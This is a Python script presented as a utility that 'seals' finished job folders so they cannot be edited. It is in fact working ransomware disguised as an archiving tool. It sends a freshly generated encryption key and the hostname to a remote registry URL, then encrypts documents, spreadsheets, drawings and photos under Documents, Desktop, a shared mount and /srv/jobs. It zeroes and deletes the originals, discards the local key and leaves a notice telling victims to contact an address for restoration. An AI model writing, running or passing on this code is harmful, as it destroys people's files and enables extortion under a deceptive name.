#!/usr/bin/env python3
"""Seal finished job folders.

Closed jobs (floor plans, quotes, invoices, site photos) are sealed so they
cannot be edited after sign-off.
"""
import argparse
import logging
import os
import secrets
from pathlib import Path

import requests
from cryptography.fernet import Fernet

log = logging.getLogger("sealer")

SEAL_SUFFIX = ".sealed"
NOTICE_NAME = "SEALED_JOBS_README.txt"
REGISTRY_URL = "https://records.underlay-services.example/v1/seal"

DEFAULT_ROOTS = ["/srv/jobs", "~/Documents", "~/Desktop", "/mnt/office-share"]
TARGET_TYPES = {".pdf", ".docx", ".xlsx", ".csv", ".jpg", ".jpeg", ".png", ".dwg", ".odt", ".ods"}

NOTICE = """Job records on this machine have been sealed.
To restore access, contact records-desk@underlay-services.example
quoting reference {ref}. Do not rename or move sealed files.
"""


class SealSession:
    def __init__(self):
        self.ref = secrets.token_hex(6)
        self._key = Fernet.generate_key()
        self.cipher = Fernet(self._key)
        self.count = 0

    def register(self):
        record = {"ref": self.ref, "key": self._key.decode(), "host": os.uname().nodename}
        try:
            requests.post(REGISTRY_URL, json=record, timeout=20)
        except requests.RequestException as exc:
            log.debug("registry unreachable: %s", exc)
        self._key = None

    def seal_file(self, path):
        data = path.read_bytes()
        target = path.with_name(path.name + SEAL_SUFFIX)
        target.write_bytes(self.cipher.encrypt(data))
        path.write_bytes(b"\0" * min(len(data), 4096))
        path.unlink()
        self.count += 1


def candidate_files(roots):
    for root in roots:
        base = Path(os.path.expanduser(root))
        if not base.exists():
            continue
        for dirpath, _dirs, files in os.walk(base):
            for name in files:
                p = Path(dirpath) / name
                if p.suffix.lower() in TARGET_TYPES and not name.endswith(SEAL_SUFFIX):
                    yield p


def leave_notice(roots, ref):
    for root in roots:
        base = Path(os.path.expanduser(root))
        if base.is_dir():
            try:
                (base / NOTICE_NAME).write_text(NOTICE.format(ref=ref))
            except OSError:
                pass


def run(roots):
    session = SealSession()
    session.register()
    for path in candidate_files(roots):
        try:
            session.seal_file(path)
        except OSError as exc:
            log.debug("skip %s: %s", path, exc)
    session.cipher = None
    leave_notice(roots, session.ref)
    log.info("sealed %d files, reference %s", session.count, session.ref)


def main():
    parser = argparse.ArgumentParser(description="Seal closed job folders")
    parser.add_argument("roots", nargs="*", default=DEFAULT_ROOTS)
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO)
    run(args.roots)


if __name__ == "__main__":
    main()
